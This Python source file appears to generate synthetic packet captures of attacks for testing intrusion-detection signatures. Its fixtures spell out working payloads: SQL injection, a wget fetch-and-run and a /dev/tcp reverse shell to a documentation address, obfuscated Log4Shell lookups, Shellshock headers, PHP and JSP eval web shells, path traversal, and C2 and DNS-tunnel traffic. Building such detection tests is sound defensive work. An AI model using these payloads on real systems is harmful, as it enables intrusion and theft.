# SPDX-License-Identifier: BSD-3-Clause
"""One capture an attack. Each is known by a name and says which JSIG signatures it must raise, and how often.

The addresses are those of documentation; nothing here was recorded, and nothing here works against anybody: payloads
stop where the detection has what it needs.
"""
from . import protocols as p
from .packets import (ACK, C2_SERVER, DESK, DNS_SERVER, FIN, OUTSIDE, OUTSIDE2, PSH, SYN, TCP, URG, WEB_SERVER, Capture,
                      tcp)

OK_PAGE = p.response(p.page("Shop", "<p>Nothing found.</p>"))
ATTACKS = {}  # name: (function, {sid: alerts}, what a person is told)


def attack(name, sids, words):
    def keep(function):
        ATTACKS[name] = (function, {sids: 1} if isinstance(sids, int) else dict(sids), words)
        return function
    return keep


def build(name, **options):
    """The frames of an attack; options go to each TCP session (segment, shuffle)."""
    capture = Capture(seed=sum(name.encode()))
    ATTACKS[name][0](capture, options)
    return capture.frames


def http(capture, options, request, answer=OK_PAGE, client=OUTSIDE, server=WEB_SERVER, port=80):
    session = capture.session(client, server, port, **options)
    session.client(request).server(answer).close()


# --- SQL injection ----------------------------------------------------------------------------------------------------


@attack("sqli-union", 9000001, "reads users and passwords by UNION SELECT")
def sqli_union(c, o):
    http(c, o, p.request("GET", "/item.php?id=7%27%20UNION/**/ALL%20SELECT%20user,password%20FROM%20accounts--%20-"))


@attack("sqli-tautology", 9000002, "logs in without a password")
def sqli_tautology(c, o):
    http(c, o, p.request("GET", "/login?user=admin%27+OR+%271%27=%271&pass=x"))


@attack("sqli-delay", 9000003, "asks the database to sleep, to see whether it obeys")
def sqli_delay(c, o):
    http(c, o, p.request("GET", "/news?id=4%20AND%20SLEEP(5)%23"))


@attack("sqli-union-form", 9000004, "UNION SELECT in a form, percent-encoded")
def sqli_union_form(c, o):
    http(c, o, p.form("/search", "q=%27%29+union+select+1%2Cversion%28%29%2C3+--+&lang=en"))


@attack("sqli-tautology-form", 9000005, "a login form with a condition that always holds")
def sqli_tautology_form(c, o):
    http(c, o, p.form("/login", "user=admin%27+or+1%3D1+--+&pass="))


@attack("sqli-answered", {9000001: 1, 9000006: 1}, "the database's own error comes back")
def sqli_answered(c, o):
    http(c, o, p.request("GET", "/item?id=1'+union+select+null,null--"), p.response(p.page(
        "Error", "<b>Warning</b>: You have an error in your SQL syntax; check the manual near 'union' at line 1"),
        status="500 Internal Server Error", chunked=40))


# --- commands ---------------------------------------------------------------------------------------------------------


@attack("command-uri", 9000010, "reads a file through a ping form")
def command_uri(c, o):
    http(c, o, p.request("GET", "/ping.cgi?host=127.0.0.1%3Bcat%20/etc/hostname"))


@attack("command-fetch", 9000011, "has a router fetch and start a bot")
def command_fetch(c, o):
    http(c, o, p.form("/GponForm/diag_Form", "dest_host=%60busybox+wget+http%3A%2F%2F198.51.100.77%2Fm+-O+%2Ftmp%2Fm%3B"
                      "sh+%2Ftmp%2Fm%60&ipv=0"))


@attack("command-reverse-shell", 9000012, "asks for a shell that calls back")
def command_reverse_shell(c, o):
    http(c, o, p.form("/run", "cmd=bash+-c+%22bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.77%2F4444+0%3E%261%22"))


@attack("command-answered", {9000010: 1, 9000013: 1}, "the command ran: its output is in the answer")
def command_answered(c, o):
    http(c, o, p.request("GET", "/ping.cgi?host=x|whoami"), p.response(
        b"PING x\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n", kind="text/plain", encoding="gzip"))


# --- path traversal ------------------------------------------------------------------------------------------------------


@attack("traversal-passwd", 9000020, "climbs to /etc/passwd")
def traversal_passwd(c, o):
    http(c, o, p.request("GET", "/view?file=..%2f..%2f..%2f..%2fetc%2fpasswd"))


@attack("traversal-encoded", 9000021, "climbs out of cgi-bin by an encoded dot")
def traversal_encoded(c, o):
    http(c, o, p.request("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"))


@attack("traversal-answered", {9000020: 1, 9000022: 1}, "the password file comes back")
def traversal_answered(c, o):
    http(c, o, p.request("GET", "/view?file=../../../../etc/passwd"), p.response(
        b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", kind="text/plain"))


# --- Log4Shell, Shellshock ---------------------------------------------------------------------------------------------------


@attack("log4shell", 9000030, "a JNDI lookup in the browser's name")
def log4shell(c, o):
    http(c, o, p.request("GET", "/", agent="${jndi:ldap://198.51.100.77:1389/a}"), port=8080)


@attack("log4shell-nested", 9000031, "the lookup hidden in lower: and default-value lookups")
def log4shell_nested(c, o):
    http(c, o, p.request("GET", "/", headers=[("X-Api-Version", "${${lower:j}${::-n}d${env:NONE:-i}:${lower:l}dap://"
                                               "198.51.100.77/a}")]), port=8983)


@attack("log4shell-uri", 9000032, "the lookup hidden and percent-encoded in the URI")
def log4shell_uri(c, o):
    http(c, o, p.request("GET", "/solr/admin/cores?action=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2F"
                         "198.51.100.77%2Fx%7D"), port=8983)


@attack("log4shell-ldap", 9000033, "the victim asks, the attacker's LDAP server names the class to load")
def log4shell_ldap(c, o):
    def entry(kind, value):
        return p.der(0x30, p.der(4, kind), p.der(0x31, p.der(4, value)))

    session = c.session(WEB_SERVER, C2_SERVER, 1389, **o)
    session.client(bytes.fromhex("300c020101600702010304008000"))
    session.server(bytes.fromhex("300c02010161070a010004000400"))
    session.client(p.der(0x30, p.der(2, b"\2"), p.der(0x63, p.der(4, b"a"), bytes.fromhex("0a01000a0100020100020100010100"),
                                                      p.der(0x87, b"objectClass"), p.der(0x30))))
    session.server(p.der(0x30, p.der(2, b"\2"), p.der(0x64, p.der(4, b"a"), p.der(
        0x30, entry(b"javaClassName", b"foo"), entry(b"javaCodeBase", b"http://198.51.100.77:8000/"),
        entry(b"objectClass", b"javaNamingReference"), entry(b"javaFactory", b"Example")))))
    session.close()


@attack("shellshock", 9000040, "a function definition in the browser's name")
def shellshock(c, o):
    http(c, o, p.request("GET", "/cgi-bin/status", agent="() { :; }; echo; /usr/bin/id"))


@attack("shellshock-cookie", 9000040, "the same in a cookie")
def shellshock_cookie(c, o):
    http(c, o, p.request("GET", "/cgi-bin/status", headers=[("Cookie", "session=() { ignored; }; echo x")]))


@attack("shellshock-answered", {9000040: 1, 9000013: 1}, "the command ran: its output is in the answer")
def shellshock_answered(c, o):
    http(c, o, p.request("GET", "/cgi-bin/status", agent="() { :; }; echo; /usr/bin/id"),
         p.response(b"uid=48(apache) gid=48(apache) groups=48(apache)\n", kind="text/plain"))


# --- web shells -----------------------------------------------------------------------------------------------------------


@attack("webshell-order", 9000050, "an uploaded script gets its order")
def webshell_order(c, o):
    http(c, o, p.request("GET", "/uploads/avatar.php?x=1&cmd=whoami"), p.response(b"www-data\n", kind="text/plain"))


@attack("webshell-upload", 9000051, "uploads a PHP script that runs what it is sent")
def webshell_upload(c, o):
    http(c, o, p.upload("/profile/picture", "me.php", b"GIF89a<?php @eval(base64_decode($_POST['k'])); ?>",
                        kind="image/gif"))


@attack("webshell-upload-jsp", 9000052, "the same for a Java server, by PUT")
def webshell_upload_jsp(c, o):
    http(c, o, p.request("PUT", "/s.jsp/", body=b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
         p.response(status="201 Created"), port=8080)


@attack("webshell-chopper", 9000053, "the China Chopper client at work")
def webshell_chopper(c, o):
    http(c, o, p.form("/error.php", "pw=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=QGluaV9zZXQoImRpc3Bs"
                      "YXlfZXJyb3JzIiwiMCIpOw%3D%3D".replace("%01", "")), p.response(b"->|/var/www\t|<-"))


@attack("webshell-page", 9000054, "a known web shell shows its page")
def webshell_page(c, o):
    http(c, o, p.request("GET", "/images/.b.php"), p.response(p.page(
        "www.example.com - WSO 2.5", "Uname: Linux www 4.19 Safe mode: OFF"), chunked=16))


# --- scans ------------------------------------------------------------------------------------------------------------------


@attack("scan-agent", 9000060, "a scanner that tells its name")
def scan_agent(c, o):
    for path in ("/", "/robots.txt", "/admin/"):
        http(c, o, p.request("GET", path, agent="sqlmap/1.7.2#stable (https://sqlmap.org)"))


@attack("scan-xmas", 9000061, "segments with FIN, PSH and URG")
def scan_xmas(c, o):
    for port in (22, 80, 443):
        c.add_ip(OUTSIDE, WEB_SERVER, TCP, tcp(OUTSIDE, WEB_SERVER, 40123, port, 7, 0, FIN | PSH | URG))


@attack("scan-sweep", 9000062, "one host knocks at file servers all over the house")
def scan_sweep(c, o):
    for host in range(1, 31):
        c.add_ip(DESK, "10.3.0.%d" % host, TCP, tcp(DESK, "10.3.0.%d" % host, 50000 + host, 445, host, 0, SYN))
        c.wait(0.05)


@attack("scan-paths", 9000063, "tries names until one is there")
def scan_paths(c, o):
    session = c.session(OUTSIDE2, WEB_SERVER, 80, **o)
    for n in range(30):
        session.client(p.request("GET", "/%s" % ("backup", "admin", "old", "test", "dev")[n % 5] + str(n)))
        session.server(p.response(b"not here", status="404 Not Found"))
        c.wait(0.1)
    session.close()


# --- call-backs ----------------------------------------------------------------------------------------------------------------


@attack("c2-results", 9000070, "a beacon sends what it found")
def c2_results(c, o):
    http(c, o, p.request("POST", "/submit.php?id=28914", host=C2_SERVER, headers=[
        ("Content-Type", "application/octet-stream")], body=bytes(range(64))), p.response(), client=DESK, server=C2_SERVER)


@attack("c2-certificate", 9000071, "TLS with a certificate that a tool brings along")
def c2_certificate(c, o):
    name = [("C", ""), ("ST", ""), ("L", ""), ("O", ""), ("OU", ""), ("CN", "")]
    session = c.session(DESK, C2_SERVER, 443, **o)
    session.client(p.tls_client_hello("cdn.example.net", bytes(range(32))))
    session.server(p.tls_server_hello(bytes(range(32, 64))) + p.tls_certificate(p.certificate(0x08BB00EE, name, name)))
    session.reset()


@attack("c2-prompt", 9000072, "a Windows prompt goes out")
def c2_prompt(c, o):
    session = c.session(DESK, C2_SERVER, 4444, **o)
    session.client(b"Microsoft Windows [Version 10.0.19045.3693]\r\n(c) Microsoft Corporation. All rights reserved."
                   b"\r\n\r\nC:\\Users\\taro>")
    session.server(b"whoami\n").client(b"whoami\r\ndesk\\taro\r\n").close()


@attack("c2-shell", 9000073, "a Unix shell goes out")
def c2_shell(c, o):
    session = c.session(WEB_SERVER, C2_SERVER, 9001, **o)
    session.client(b"bash: cannot set terminal process group (812): Inappropriate ioctl for device\n"
                   b"bash: no job control in this shell\nwww-data@www:/var/www$ ")
    session.server(b"uname -a\n").close()


@attack("c2-dns-data", 9000074, "data leaves in the names of DNS queries")
def c2_dns_data(c, o):
    for n in range(15):
        text = "".join("abcdefghijklmnopqrstuvwxyz234567"[c.random.randrange(32)] for _ in range(100))
        c.datagram(DESK, DNS_SERVER, 40000 + n, 53, p.dns_query(n, "%s.%s.t.example.org" % (text[:60], text[60:]), p.TXT))
        c.wait(0.5)


@attack("c2-dns-null", 9000075, "a tunnel of DNS queries of type NULL")
def c2_dns_null(c, o):
    for n in range(8):
        c.datagram(DESK, DNS_SERVER, 41000, 53, p.dns_query(n, "paaqgi%02da.t.example.org" % n, p.NULL))
        c.wait(0.2)
